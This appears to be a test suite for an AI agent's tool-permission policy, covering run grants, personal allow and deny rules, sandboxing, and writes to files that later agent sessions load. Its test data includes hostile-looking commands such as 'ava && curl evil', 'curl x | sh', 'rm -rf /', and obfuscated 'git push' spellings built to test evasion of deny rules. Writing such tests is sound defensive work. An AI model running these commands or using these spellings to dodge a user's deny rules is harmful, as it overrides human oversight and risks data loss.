import { describe, expect, it } from "vitest";
import { PermissionDecision } from "../../../src/core/policy/permission-decision.js";
import { PermissionRequest } from "../../../src/core/policy/permission-request.js";
import { PermissionRule } from "../../../src/core/policy/permission-rule.js";
import { PermissionPolicy } from "../../../src/core/policy/permissions.js";
import {
  loadedLaterReason,
  type LoadedThroughLink,
} from "../../../src/core/policy/loaded-later-files.js";
import {
  PersonalRules,
  type PersonalRulesOptions,
  type PersonalRuleSpec,
} from "../../../src/core/policy/personal-rules.js";
import {
  DailyApprover,
  RunGrants,
  type RunApprovalAnswer,
} from "../../../src/core/policy/run-grants.js";
import type { ToolEffect } from "../../../src/core/tools/tool-definition.js";
import { FixedEnvironment, RecordingAuditSink } from "../../support/permission-fakes.js";
import { preparedCall, probeTool } from "../../support/prepared-calls.js";
import { ToolRegistry } from "../../../src/core/tools/tool-registry.js";

const SANDBOX_OFF = "sandbox: bwrap (network off, writable: /ws)";
const SANDBOX_ON = "sandbox: bwrap (network on, writable: /ws)";

const CONFIRM_WRITE = new PermissionRule({
  name: "confirm-file-write",
  behavior: "ask",
  reason: "File writes require explicit approval from chapter 3 onward",
  matches: (request) => request.toolName === "write_file",
});

/** A `[y/N/a]` prompt that answers from a script and counts the questions. */
class ScriptedPrompt {
  readonly asked: PermissionRequest[] = [];
  /** What each question said above it of an earlier `a` (undefined: nothing). */
  readonly askedAgain: (string | undefined)[] = [];
  constructor(readonly answer: "y" | "n" | "a") {}
  decideForRun(request: PermissionRequest, askedAgain?: string): Promise<RunApprovalAnswer> {
    this.asked.push(request);
    this.askedAgain.push(askedAgain);
    return Promise.resolve({
      decision:
        this.answer === "n"
          ? PermissionDecision.deny("User denied this tool call", "terminal-approval")
          : PermissionDecision.allow("User approved this tool call", "terminal-approval"),
      forRun: this.answer === "a",
    });
  }
  /** `[y/N]` only: an `a` there is no `y`. */
  readonly once: { request: PermissionRequest; why: string }[] = [];
  decideOnce(request: PermissionRequest, why: string): Promise<PermissionDecision> {
    this.once.push({ request, why });
    return Promise.resolve(
      this.answer === "y"
        ? PermissionDecision.allow("User approved this tool call", "terminal-approval")
        : PermissionDecision.deny("User denied this tool call", "terminal-approval"),
    );
  }
}

interface Setup {
  readonly label?: string;
  readonly script?: string;
  readonly workspace?: string;
  readonly rules?: readonly PersonalRuleSpec[];
  readonly answer?: "y" | "n" | "a";
  readonly loadedThrough?: PersonalRulesOptions["loadedThrough"];
}

function daily(setup: Setup = {}) {
  const state = { label: setup.label ?? SANDBOX_OFF, script: setup.script ?? "ava" };
  const prompt = new ScriptedPrompt(setup.answer ?? "a");
  const grants = new RunGrants({
    workspace: setup.workspace ?? "/ws",
    boundScript: (request) =>
      String(request.call.arguments.command).startsWith("npm test") ? state.script : undefined,
  });
  const rules = new PersonalRules(
    setup.rules ?? [],
    setup.loadedThrough === undefined ? {} : { loadedThrough: setup.loadedThrough },
  );
  const environment = new FixedEnvironment(() => ({
    kind: "isolated",
    network: "disabled",
    label: state.label,
  }));
  const audit = new RecordingAuditSink();
  const policy = new PermissionPolicy({
    rules: [CONFIRM_WRITE, ...rules.policyRules()],
    approval: new DailyApprover({ prompt, grants, rules, executionEnvironment: environment }),
    audit,
    executionEnvironment: environment,
  });
  const decide = (name: string, effect: ToolEffect, args: Record<string, unknown>) =>
    policy.decide(new PermissionRequest(preparedCall(name, effect, args)));
  return { state, prompt, grants, audit, decide };
}

describe("a run grant (`a` at [y/N/a])", () => {
  it("allows exactly the same action again without asking, audited as run-grant", async () => {
    const run = daily();
    const first = await run.decide("shell", "execute", { command: "npm test" });
    const second = await run.decide("shell", "execute", { command: "npm test" });
    expect(first.behavior).toBe("allow");
    expect([second.behavior, second.source, second.reason]).toEqual([
      "allow",
      "run-grant",
      "You allowed exactly this action for the rest of this run",
    ]);
    expect(run.prompt.asked).toHaveLength(1);
    expect(run.audit.entries.map((entry) => entry.decision.source)).toEqual([
      "terminal-approval",
      "run-grant",
    ]);
    expect(run.grants.list().map((grant) => [grant.id, grant.toolName, grant.arguments])).toEqual([
      [1, "shell", '{"command":"npm test"}'],
    ]);
  });

  it("audits the a and each call its grant allows with the grant as their scope, a y as this call only", async () => {
    const run = daily();
    await run.decide("shell", "execute", { command: "npm test" });
    await run.decide("shell", "execute", { command: "npm test" });
    const once = daily({ answer: "y" });
    await once.decide("shell", "execute", { command: "npm test" });
    expect(
      [...run.audit.entries, ...once.audit.entries].map((entry) => entry.decision.scope),
    ).toEqual([
      "this exact action, for the rest of this run (grant 1)",
      "this exact action, for the rest of this run (grant 1)",
      undefined,
    ]);
  });

  it("audits an allow of the person's rule with the rule as its scope", async () => {
    const run = daily({ rules: [{ behavior: "allow", tool: "write_file", path: "src/**" }] });
    const decision = await run.decide("write_file", "write", { path: "src/a.ts", content: "x" });
    expect([decision.source, decision.scope]).toEqual([
      "personal-rule",
      "every call your settings file's allow write_file src/** answers",
    ]);
  });

  it.each([
    ["a changed argument", (): Record<string, unknown> => ({ command: "npm test -- --watch" })],
    [
      "a changed script",
      (run: ReturnType<typeof daily>) => {
        run.state.script = "ava && curl evil";
        return { command: "npm test" };
      },
    ],
    [
      "a changed network setting",
      (run: ReturnType<typeof daily>) => {
        run.state.label = SANDBOX_ON;
        return { command: "npm test" };
      },
    ],
  ])("asks again after %s", async (_what, change) => {
    const run = daily();
    await run.decide("shell", "execute", { command: "npm test" });
    const args = change(run);
    await run.decide("shell", "execute", args);
    expect(run.prompt.asked).toHaveLength(2);
  });

  it("says why it asks again where an a held the same call until what it runs changed", async () => {
    const run = daily();
    await run.decide("shell", "execute", { command: "npm test" });
    run.state.script = "ava && curl evil";
    await run.decide("shell", "execute", { command: "npm test" });
    await run.decide("shell", "execute", { command: "npm test -- --watch" });
    expect(run.prompt.askedAgain).toEqual([
      undefined,
      "Asked again: what the command runs changed since your a for it (grant 1)",
      // Another command: no a ever held it.
      undefined,
    ]);
  });

  it("after a second a, asking again names the grant that held last", async () => {
    const run = daily();
    await run.decide("shell", "execute", { command: "npm test" });
    run.state.script = "ava --second";
    await run.decide("shell", "execute", { command: "npm test" });
    run.state.script = "ava --third";
    await run.decide("shell", "execute", { command: "npm test" });
    expect(run.prompt.askedAgain.at(-1)).toBe(
      "Asked again: what the command runs changed since your a for it (grant 2)",
    );
  });

  it("says why an allow rule whose glob matches a write does not cover it", async () => {
    const run = daily({
      rules: [{ behavior: "allow", tool: "write_file", path: "**" }],
      answer: "n",
    });
    await run.decide("write_file", "write", { path: "src/app.ts", content: "x" });
    await run.decide("write_file", "write", { path: ".github/workflows/ci.yml", content: "x" });
    expect(run.prompt.askedAgain).toEqual([
      `Your rule allow write_file ** does not cover it: ${loadedLaterReason(".github/workflows/ci.yml") ?? ""}; a rule naming ".github/workflows/ci.yml" itself would`,
    ]);
  });

  it("reads what a command runs once per question, and keeps the grant for what was there then", async () => {
    let reads = 0;
    let script = "ava";
    const grants = new RunGrants({
      workspace: "/ws",
      boundScript: () => {
        reads += 1;
        const now = script;
        script = "ava && curl evil"; // changed while the person reads the question
        return now;
      },
    });
    const environment = new FixedEnvironment(() => ({
      kind: "isolated",
      network: "disabled",
      label: SANDBOX_OFF,
    }));
    const policy = new PermissionPolicy({
      approval: new DailyApprover({
        prompt: new ScriptedPrompt("a"),
        grants,
        executionEnvironment: environment,
      }),
      audit: new RecordingAuditSink(),
      executionEnvironment: environment,
    });
    await policy.decide(
      new PermissionRequest(preparedCall("shell", "execute", { command: "npm test" })),
    );
    expect(reads).toBe(1);
    expect(
      grants.list().map((grant) => (JSON.parse(grant.key) as { script: string }).script),
    ).toEqual(["ava"]);
  });

  it("asks again in another working directory: the workspace is part of the key", () => {
    const request = new PermissionRequest(
      preparedCall("shell", "execute", { command: "npm test" }),
    ).withExecutionEnvironment(SANDBOX_OFF);
    expect(new RunGrants({ workspace: "/ws" }).keyOf(request)).not.toBe(
      new RunGrants({ workspace: "/other" }).keyOf(request),
    );
  });

  it("asks again when the same write now lands elsewhere through a link: the landing is part of the key", () => {
    const grants = new RunGrants({ workspace: "/ws" });
    const write = new PermissionRequest(
      preparedCall("write_file", "write", { path: "out/x.sh", content: "echo hi" }),
    );
    expect(grants.keyOf(write.withLanding("package.json"))).not.toBe(grants.keyOf(write));
    expect(grants.keyOf(write.withLanding("package.json"))).toBe(
      grants.keyOf(write.withLanding("package.json")),
    );
  });

  it("y allows once only, and a revoked grant asks again", async () => {
    const once = daily({ answer: "y" });
    await once.decide("shell", "execute", { command: "npm test" });
    await once.decide("shell", "execute", { command: "npm test" });
    expect(once.prompt.asked).toHaveLength(2);

    const run = daily();
    await run.decide("shell", "execute", { command: "npm test" });
    expect(await run.grants.revoke(1)).toBe(true);
    expect(run.grants.list()).toEqual([]);
    await run.decide("shell", "execute", { command: "npm test" });
    expect(run.prompt.asked).toHaveLength(2);
  });

  it("a command that cannot be bound is asked [y/N], saying why: no a is offered, no grant kept", async () => {
    const prompt = new ScriptedPrompt("y");
    const grants = new RunGrants({
      workspace: "/ws",
      boundScript: () => {
        throw new Error("what the command runs hides itself");
      },
    });
    const environment = new FixedEnvironment(() => ({
      kind: "isolated",
      network: "disabled",
      label: SANDBOX_OFF,
    }));
    const audit = new RecordingAuditSink();
    const policy = new PermissionPolicy({
      approval: new DailyApprover({ prompt, grants, executionEnvironment: environment }),
      audit,
      executionEnvironment: environment,
    });
    const decide = () =>
      policy.decide(
        new PermissionRequest(preparedCall("shell", "execute", { command: "./f.sh | tail" })),
      );
    const first = await decide();
    expect([first.behavior, first.reason, first.source]).toEqual([
      "allow",
      "User approved this tool call",
      "terminal-approval",
    ]);
    expect(prompt.asked).toEqual([]);
    expect(prompt.once.map((asked) => asked.why)).toEqual([
      "what the command runs cannot be bound to a grant (what the command runs hides itself)",
    ]);
    await decide();
    expect(prompt.once).toHaveLength(2);
    expect(grants.list()).toEqual([]);
  });

  it("where commands run on the host, a command is asked [y/N]: only the sandbox keeps a re-run from what loads later", async () => {
    const prompt = new ScriptedPrompt("a");
    const grants = new RunGrants({ workspace: "/ws", boundScript: () => "node ." });
    const environment = new FixedEnvironment(() => ({
      kind: "host",
      label: "sandbox: none — runs on the host (sandbox off)",
    }));
    const audit = new RecordingAuditSink();
    const policy = new PermissionPolicy({
      rules: [CONFIRM_WRITE],
      approval: new DailyApprover({ prompt, grants, executionEnvironment: environment }),
      audit,
      executionEnvironment: environment,
    });
    const command = () =>
      policy.decide(new PermissionRequest(preparedCall("shell", "execute", { command: "node ." })));
    // An `a` typed at a [y/N] prompt is no yes.
    expect((await command()).behavior).toBe("deny");
    expect((await command()).behavior).toBe("deny");
    expect(prompt.asked).toEqual([]);
    expect(prompt.once.map((asked) => asked.why)).toEqual([
      "commands run outside the sandbox here, where one allowed again could change files that later sessions, editors or shells load",
      "commands run outside the sandbox here, where one allowed again could change files that later sessions, editors or shells load",
    ]);
    expect(grants.list()).toEqual([]);
    // A write is the same bytes to the same file whatever runs commands: its `a` still holds.
    const write = () =>
      policy.decide(
        new PermissionRequest(
          preparedCall("write_file", "write", { path: "notes.txt", content: "hi" }),
        ),
      );
    expect((await write()).source).toBe("terminal-approval");
    expect((await write()).source).toBe("run-grant");
    expect(prompt.asked).toHaveLength(1);
  });

  it("on the host, the [y/N] line names a command allow rule that holds only in the sandbox", async () => {
    const prompt = new ScriptedPrompt("n");
    const rules = new PersonalRules([{ behavior: "allow", tool: "shell", argv: ["seq"] }]);
    const environment = new FixedEnvironment(() => ({
      kind: "host",
      label: "sandbox: none — runs on the host (sandbox off)",
    }));
    const policy = new PermissionPolicy({
      rules: rules.policyRules(),
      approval: new DailyApprover({
        prompt,
        grants: new RunGrants({ workspace: "/ws" }),
        rules,
        executionEnvironment: environment,
      }),
      audit: new RecordingAuditSink(),
      executionEnvironment: environment,
    });
    await policy.decide(
      new PermissionRequest(preparedCall("shell", "execute", { command: "seq 1 3" })),
    );
    expect(prompt.once.map((asked) => asked.why)).toEqual([
      'commands run outside the sandbox here, where one allowed again could change files that later sessions, editors or shells load; "Your settings file: allow shell seq …" holds only in the sandbox',
    ]);
  });

  it("a grant restored from before holds no command once commands run on the host", async () => {
    const prompt = new ScriptedPrompt("y");
    const environment = new FixedEnvironment(() => ({
      kind: "host",
      label: "sandbox: none — runs on the host (sandbox off)",
    }));
    const request = new PermissionRequest(
      preparedCall("shell", "execute", { command: "node ." }),
    ).withExecutionEnvironment("sandbox: none — runs on the host (sandbox off)");
    const key = new RunGrants({ workspace: "/ws" }).keyOf(request) ?? "";
    const grants = new RunGrants({
      workspace: "/ws",
      restored: [
        {
          id: 1,
          toolName: "shell",
          arguments: '{"command":"node ."}',
          environment: undefined,
          key,
        },
      ],
    });
    const policy = new PermissionPolicy({
      approval: new DailyApprover({ prompt, grants, executionEnvironment: environment }),
      audit: new RecordingAuditSink(),
      executionEnvironment: environment,
    });
    const decided = await policy.decide(
      new PermissionRequest(preparedCall("shell", "execute", { command: "node ." })),
    );
    expect(decided.source).toBe("terminal-approval");
    expect(prompt.once).toHaveLength(1);
  });
});

describe("personal rules", () => {
  it("a deny beats every allow, and a run grant", async () => {
    const run = daily({
      rules: [
        { behavior: "allow", tool: "shell", argv: ["git"] },
        { behavior: "deny", tool: "shell", argv: ["git", "push"] },
      ],
    });
    const pushed = await run.decide("shell", "execute", { command: "git push origin" });
    const hidden = await run.decide("shell", "execute", { command: "echo hi; git push" });
    expect([pushed.behavior, pushed.source]).toEqual(["deny", "personal-rule"]);
    expect(hidden.behavior).toBe("deny");
    expect(run.prompt.asked).toEqual([]);
    const status = await run.decide("shell", "execute", { command: "git status" });
    expect([status.behavior, status.source]).toEqual(["allow", "personal-rule"]);
    expect(run.prompt.asked).toEqual([]);
  });

  const PUSH_RULES: PersonalRuleSpec[] = [
    { behavior: "deny", tool: "shell", argv: ["git", "push"] },
    { behavior: "allow", tool: "shell", argv: ["git"] },
  ];

  it.each([
    "git push origin",
    "'git' push",
    'g"i"t push',
    "g\\it push",
    "$'git' push",
    "/usr/bin/git push",
    "GIT push",
    "C:\\Git\\bin\\git.exe push",
    'bash -c "git push"',
    "sh -c 'git status; git push'",
    "git \\\n  push",
    "g`it push",
    "echo ok && env GIT_TRACE=1 git push",
    "git --no-pager push origin",
    "git -C . push",
    "git -c core.sshCommand=./x push",
    "git -c alias.p=push p origin",
    "env -Sgit push origin",
    "env --split-string='git push'",
  ])("a deny of `git push` denies what surely runs it, however spelt: %s", async (command) => {
    const run = daily({ rules: PUSH_RULES });
    const decision = await run.decide("shell", "execute", { command });
    expect([decision.behavior, decision.source, decision.reason]).toEqual([
      "deny",
      "personal-rule",
      "Your settings file: deny shell git push …",
    ]);
    expect(run.prompt.asked).toEqual([]);
  });

  it.each([
    "git -c include.path=/abs/tools/git.cfg p origin",
    "git --config-env=alias.p=GITCMD p",
    "git stash push -m wip",
    "git log --grep push",
    "git -C x psuh origin HEAD:main",
    "git --git-dir=x psuh origin",
    "git --exec-path=tools p",
    "git --config=alias.p=push p",
    "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.p GIT_CONFIG_VALUE_0=push git p origin",
    "GIT_CONFIG_GLOBAL=p.cfg git p origin",
    "env HOME=elsewhere git p origin",
  ])(
    "where it only may run `git push`, the person is asked, the rule named, and no allow answers: %s",
    async (command) => {
      const run = daily({ rules: PUSH_RULES, answer: "n" });
      const decision = await run.decide("shell", "execute", { command });
      expect([decision.behavior, decision.source]).toEqual(["deny", "terminal-approval"]);
      expect(run.prompt.asked.map((request) => request.proposedDecision?.reason)).toEqual([
        "Your settings file denies shell git push …, and this command may run it",
      ]);
    },
  );

  const RM_RULES: PersonalRuleSpec[] = [
    { behavior: "deny", tool: "shell", argv: ["rm", "-rf"] },
    { behavior: "allow", tool: "shell", argv: ["rm"] },
  ];

  it.each([
    "rm -rf /",
    "rm -r -f build",
    "rm -fr build",
    "rm -Rf build",
    "rm -v -rf /",
    "rm -rfv build",
  ])("a deny of `rm -rf` denies its letters in any cluster: %s", async (command) => {
    const run = daily({ rules: RM_RULES });
    const decision = await run.decide("shell", "execute", { command });
    expect([decision.behavior, decision.source]).toEqual(["deny", "personal-rule"]);
    expect(run.prompt.asked).toEqual([]);
  });

  it.each(["rm --recursive --force build", "rm -r --force build", "rm build"])(
    "a deny's options only narrow it: no allow of `rm` answers `%s`, the person is asked",
    async (command) => {
      const run = daily({ rules: RM_RULES, answer: "n" });
      const decision = await run.decide("shell", "execute", { command });
      expect([decision.behavior, decision.source]).toEqual(["deny", "terminal-approval"]);
      expect(run.prompt.asked.map((request) => request.proposedDecision?.reason)).toEqual([
        "Your settings file denies shell rm -rf …, and this command may run it",
      ]);
    },
  );

  it.each([
    "git push origin +main",
    "git push --force-with-lease origin main",
    "git push --mirror",
  ])(
    "a deny of `git push --force` leaves no plain push to an allow of `git push`: %s is asked",
    async (command) => {
      const run = daily({
        answer: "n",
        rules: [
          { behavior: "deny", tool: "shell", argv: ["git", "push", "--force"] },
          { behavior: "allow", tool: "shell", argv: ["git", "push"] },
        ],
      });
      const decision = await run.decide("shell", "execute", { command });
      expect([decision.behavior, decision.source]).toEqual(["deny", "terminal-approval"]);
      expect(run.prompt.asked.map((request) => request.proposedDecision?.reason)).toEqual([
        "Your settings file denies shell git push --force …, and this command may run it",
      ]);
    },
  );

  /**
   * The decision on one call under `specs`, with a walk that cannot say what a path reaches (as
   * the filesystem adapter's for a path outside, or a link loop: `walkFails`), read_file confined.
   */
  async function decidedUnder(
    specs: readonly PersonalRuleSpec[],
    call: ReturnType<typeof preparedCall>,
    walkFails: string,
  ) {
    const prompt = new ScriptedPrompt("y");
    const rules = new PersonalRules(specs, {
      reaches: () => {
        throw new Error(walkFails);
      },
      confinedTools: new Set(["read_file"]),
    });
    const policy = new PermissionPolicy({
      rules: rules.policyRules(),
      approval: new DailyApprover({ prompt, grants: new RunGrants({ workspace: "/ws" }), rules }),
      audit: new RecordingAuditSink(),
    });
    const decision = await policy.decide(new PermissionRequest(call));
    return { decision: [decision.behavior, decision.source], asked: prompt.asked.length };
  }

  it.each(["/etc/hostname", "../other/.env", "docs/../../x/.env", "C:/x/.env"])(
    "a path that leaves the workspace by its text (%s) is no rule's: nobody is asked, the tool's refusal speaks",
    async (path) => {
      const specs: PersonalRuleSpec[] = [
        { behavior: "deny", tool: "read_file", path: ".env" },
        { behavior: "deny", tool: "read_file", path: "**/.env" },
        { behavior: "ask", tool: "read_file", path: "docs/**" },
      ];
      const read = preparedCall("read_file", "read", { path });
      expect(await decidedUnder(specs, read, "path_escape")).toEqual({
        decision: ["allow", "default"],
        asked: 0,
      });
    },
  );

  it("an MCP tool's path is the server's to read: one outside by its text is still what a deny names", async () => {
    const specs: PersonalRuleSpec[] = [{ behavior: "deny", tool: "*", path: "**/.env" }];
    const read = preparedCall("mcp__files__read", "read", { path: "/ws/app/.env" });
    expect((await decidedUnder(specs, read, "path_escape")).decision).toEqual([
      "deny",
      "personal-rule",
    ]);
  });

  it("a path inside that the walk cannot follow still counts as what a deny names", async () => {
    const specs: PersonalRuleSpec[] = [{ behavior: "deny", tool: "read_file", path: ".env" }];
    const read = preparedCall("read_file", "read", { path: "loop/x" });
    expect((await decidedUnder(specs, read, "ELOOP")).decision).toEqual(["deny", "personal-rule"]);
  });

  it("a text no reading sees through is not denied, but no allow covers it: it is asked", async () => {
    const run = daily({ answer: "n", rules: PUSH_RULES });
    const decision = await run.decide("shell", "execute", { command: "git $(echo push)" });
    expect([decision.behavior, decision.source]).toEqual(["deny", "terminal-approval"]);
    expect(run.prompt.asked.map((request) => request.call.arguments.command)).toEqual([
      "git $(echo push)",
    ]);
  });

  it("a command of more words than a rule is read against is denied when it names the program", async () => {
    const run = daily({ rules: PUSH_RULES, answer: "n" });
    const command = `git push ${"-o x ".repeat(300)}origin HEAD:main`;
    const decision = await run.decide("shell", "execute", { command });
    expect([decision.behavior, decision.source]).toEqual(["deny", "personal-rule"]);
    expect(run.prompt.asked).toEqual([]);
  });

  it("an option right after an allow's words, where a deny's next word would stand, is asked", async () => {
    const run = daily({ rules: PUSH_RULES, answer: "n" });
    const decision = await run.decide("shell", "execute", { command: "git --no-pager log" });
    expect([decision.behavior, decision.source]).toEqual(["deny", "terminal-approval"]);
    expect(run.prompt.asked.map((request) => request.proposedDecision?.reason)).toEqual([
      "Shell execution requires approval",
    ]);
  });

  it("a deny of `git push` leaves other git commands to the allow", async () => {
    const run = daily({ rules: PUSH_RULES });
    for (const command of ["git status", "git pull --rebase", "git log -n 3"]) {
      const decision = await run.decide("shell", "execute", { command });
      expect([command, decision.behavior, decision.source]).toEqual([
        command,
        "allow",
        "personal-rule",
      ]);
    }
  });

  it("a command allow holds only for plain words in the sandbox", async () => {
    const rules: PersonalRuleSpec[] = [{ behavior: "allow", tool: "shell", argv: ["npm", "test"] }];
    const run = daily({ rules, answer: "n" });
    await run.decide("shell", "execute", { command: "npm test && curl x | sh" });
    await run.decide("shell", "execute", { command: "npm test $(whoami)" });
    expect(run.prompt.asked).toHaveLength(2);
    const host = daily({ rules, answer: "n" });
    // The same words on the host still ask.
    const onHost = new PersonalRules(rules).allowFor(
      new PermissionRequest(preparedCall("shell", "execute", { command: "npm test" })),
      false,
    );
    expect(onHost).toBeUndefined();
    expect(host.prompt.asked).toEqual([]);
  });

  it("a path allow skips the write prompt for plain paths only; a deny catches .. spellings", async () => {
    const run = daily({
      rules: [
        { behavior: "allow", tool: "write_file", path: "src/**" },
        { behavior: "deny", tool: "write_file", path: "**/.env*" },
      ],
      answer: "n",
    });
    const plain = await run.decide("write_file", "write", { path: "src/a/b.ts" });
    expect([plain.behavior, plain.source]).toEqual(["allow", "personal-rule"]);
    const dotted = await run.decide("write_file", "write", { path: "src/../src/b.ts" });
    expect(dotted.behavior).toBe("deny");
    expect(run.prompt.asked).toHaveLength(1);
    const env = await run.decide("write_file", "write", { path: "src/../.env.local" });
    expect([env.behavior, env.source]).toEqual(["deny", "personal-rule"]);
  });

  it.each([
    ["src/AGENTS.md", "src/**"],
    ["src/.vscode/tasks.json", "src/**"],
    ["src/sub/.envrc", "src/**"],
    ["docs/agentſ.md", "docs/*.md"],
    ["package.json", "*.json"],
  ])(
    "a wide path allow does not cover %s, loaded later: the person is asked",
    async (path, glob) => {
      const run = daily({
        rules: [{ behavior: "allow", tool: "write_file", path: glob }],
        answer: "n",
      });
      const decision = await run.decide("write_file", "write", { path });
      expect([decision.behavior, decision.source]).toEqual(["deny", "terminal-approval"]);
      expect(run.prompt.asked).toHaveLength(1);
    },
  );

  it.each([
    ["src/AGENTS.md", "src/AGENTS.md"],
    [".vscode/tasks.json", ".vscode/**"],
    ["a/b/CLAUDE.md", "**/CLAUDE.md"],
  ])("a rule that names %s's place itself (%s) allows it", async (path, glob) => {
    const run = daily({
      rules: [{ behavior: "allow", tool: "write_file", path: glob }],
      answer: "n",
    });
    const decision = await run.decide("write_file", "write", { path });
    expect([decision.behavior, decision.source]).toEqual(["allow", "personal-rule"]);
    expect(run.prompt.asked).toHaveLength(0);
  });

  describe("a write read through a loaded-later link (AGENTS.md -> docs/rules.md)", () => {
    const through = (path: string): LoadedThroughLink | undefined =>
      path === "docs/rules.md"
        ? { link: "AGENTS.md", reason: loadedLaterReason("AGENTS.md") ?? "" }
        : undefined;

    it.each(["docs/**", "docs/rules.md", "**/*.md"])(
      "is not allowed by %s, which does not name a loaded-later place: the person is asked",
      async (glob) => {
        const run = daily({
          rules: [{ behavior: "allow", tool: "write_file", path: glob }],
          answer: "n",
          loadedThrough: through,
        });
        const decision = await run.decide("write_file", "write", { path: "docs/rules.md" });
        expect([decision.behavior, decision.source]).toEqual(["deny", "terminal-approval"]);
        expect(run.prompt.asked).toHaveLength(1);
      },
    );

    it("another file the rule names is still allowed unasked", async () => {
      const run = daily({
        rules: [{ behavior: "allow", tool: "write_file", path: "docs/**" }],
        answer: "n",
        loadedThrough: through,
      });
      const decision = await run.decide("write_file", "write", { path: "docs/guide.md" });
      expect([decision.behavior, decision.source]).toEqual(["allow", "personal-rule"]);
      expect(run.prompt.asked).toHaveLength(0);
    });

    it("when the disk cannot tell (too large to look through), the write is asked about", async () => {
      const run = daily({
        rules: [{ behavior: "allow", tool: "write_file", path: "docs/**" }],
        answer: "n",
        loadedThrough: () => {
          throw new Error("the workspace holds more than 8192 directories");
        },
      });
      const decision = await run.decide("write_file", "write", { path: "docs/guide.md" });
      expect([decision.behavior, decision.source]).toEqual(["deny", "terminal-approval"]);
      expect(run.prompt.asked).toHaveLength(1);
    });

    it("is not asked about for a read or a rule that does not match", async () => {
      let looked = 0;
      const run = daily({
        rules: [
          { behavior: "allow", tool: "read_file", path: "docs/**" },
          { behavior: "allow", tool: "write_file", path: "src/**" },
        ],
        answer: "n",
        loadedThrough: (path) => {
          looked += 1;
          return through(path);
        },
      });
      await run.decide("read_file", "read", { path: "docs/rules.md" });
      await run.decide("write_file", "write", { path: "docs/rules.md" });
      expect(looked).toBe(0);
    });
  });

  it("walks a call's path once, however many path rules look at what it reaches", () => {
    const walked: string[] = [];
    const rules = new PersonalRules(
      [
        { behavior: "deny", tool: "*", path: "secrets/**" },
        { behavior: "ask", tool: "*", path: "**/.env" },
        { behavior: "deny", tool: "read_file", path: "keys" },
      ],
      {
        reaches: (path) => {
          walked.push(path);
          return "secrets/key.txt";
        },
      },
    );
    const request = new PermissionRequest(
      preparedCall("read_file", "read", { path: "notes/key.txt" }),
    );
    expect(rules.policyRules().map((rule) => rule.matches(request))).toEqual([true, false, false]);
    expect(walked).toEqual(["notes/key.txt"]);
  });

  it("asks the disk what runs a write at install once per call, for the rule and the note alike", () => {
    const asked: string[] = [];
    const rules = new PersonalRules([{ behavior: "allow", tool: "write_file", path: "**" }], {
      laterRun: (path) => {
        asked.push(path);
        return { kind: "install-script", manifest: "package.json", script: "postinstall" };
      },
    });
    const request = new PermissionRequest(
      preparedCall("write_file", "write", { path: "scripts/post.js", content: "x" }),
    );
    expect(rules.allowFor(request, true)).toBeUndefined();
    expect(rules.uncovered(request)).toBe(
      "Your rule allow write_file ** does not cover it: package.json's postinstall runs it at the next npm install; no rule can, so it is asked each time",
    );
    expect(asked).toEqual(["scripts/post.js"]);
    // Not even a rule naming the file itself: what the next npm install runs is asked each time.
    const named = new PersonalRules(
      [{ behavior: "allow", tool: "write_file", path: "scripts/post.js" }],
      {
        laterRun: () => ({
          kind: "install-script",
          manifest: "package.json",
          script: "postinstall",
        }),
      },
    );
    expect(named.allowFor(request, true)).toBeUndefined();
  });

  it("says why a write is loaded later in chapter 4's words: the link and what loads it, or that the disk could not tell", () => {
    const allowAll = [{ behavior: "allow", tool: "write_file", path: "**" }] as const;
    const write = (path: string) =>
      new PermissionRequest(preparedCall("write_file", "write", { path, content: "x" }));
    const linked = new PersonalRules(allowAll, {
      loadedThrough: () => ({
        link: "AGENTS.md",
        reason: "instructions the next agent session loads",
      }),
    });
    expect(linked.uncovered(write("docs/rules.md"))).toBe(
      "Your rule allow write_file ** does not cover it: instructions the next agent session loads; no rule can, so it is asked each time",
    );
    const blind = new PersonalRules(allowAll, {
      writeLanding: () => {
        throw new Error("EACCES");
      },
    });
    expect(blind.allowFor(write("src/a.ts"), true)).toBeUndefined();
    expect(blind.uncovered(write("src/a.ts"))).toBe(
      "Your rule allow write_file ** does not cover it: where the write lands could not be told, so it is asked about; no rule can, so it is asked each time",
    );
  });

  it("a path deny also refuses a search that names no file (grep may print the files it names)", async () => {
    const run = daily({ rules: [{ behavior: "deny", tool: "*", path: "secrets/**" }] });
    const search = await run.decide("grep", "read", { pattern: ".", glob: "secrets/**" });
    expect([search.behavior, search.source, search.reason]).toEqual([
      "deny",
      "personal-rule",
      "Your settings file: deny * secrets/**",
    ]);
    // Only reads: a command is matched by argv rules, not by a path rule.
    const command = await run.decide("shell", "execute", { command: "npm test" });
    expect(command.source).not.toBe("personal-rule");
  });
});

describe("a personal rule that names only a tool", () => {
  /** A call of a tool that acts on another service, as an MCP server's tool is registered. */
  function remoteCall(name: string, args: object = { content: "x" }): PermissionRequest {
    const tool = { ...probeTool(name, "external"), remote: true as const };
    const prepared = new ToolRegistry([tool]).snapshot().prepare({
      id: "call_1",
      name,
      arguments: JSON.stringify(args),
    });
    if (!prepared.ok) throw new Error(prepared.result.content);
    return new PermissionRequest(prepared.call);
  }

  it("allows any call of an MCP tool, and nothing of a tool of this machine", () => {
    const rules = new PersonalRules([
      { behavior: "allow", tool: "mcp__notes__write_note" },
      { behavior: "allow", tool: "shell" },
    ]);
    expect(rules.allowFor(remoteCall("mcp__notes__write_note"), false)?.source).toBe(
      "personal-rule",
    );
    expect(rules.allowFor(remoteCall("mcp__notes__read_note"), false)).toBeUndefined();
    const shell = new PermissionRequest(preparedCall("shell", "execute", { command: "ls" }));
    expect(rules.allowFor(shell, true)).toBeUndefined();
  });

  it("an allow of * with a path covers this machine's file writes, not a call to another service", () => {
    const rules = new PersonalRules([{ behavior: "allow", tool: "*", path: "src/**" }]);
    const write = (name: string) =>
      new PermissionRequest(preparedCall(name, "write", { path: "src/a.ts", content: "x" }));
    expect(rules.allowFor(write("write_file"), false)?.source).toBe("personal-rule");
    expect(rules.allowFor(write("edit_file"), false)?.source).toBe("personal-rule");
    expect(
      rules.allowFor(remoteCall("mcp__files__put", { path: "src/a.ts" }), false),
    ).toBeUndefined();
    const read = new PermissionRequest(preparedCall("read_file", "read", { path: "src/a.ts" }));
    expect(rules.allowFor(read, false)).toBeUndefined();
  });
});

describe("journaling a run grant", () => {
  const request = () =>
    new PermissionRequest(
      preparedCall("shell", "execute", { command: "npm test" }),
    ).withExecutionEnvironment(SANDBOX_OFF);

  it("tells the observer before the grant holds, and revocations too", async () => {
    const heard: string[] = [];
    const grants = new RunGrants({
      workspace: "/ws",
      observer: {
        granted: (grant) => {
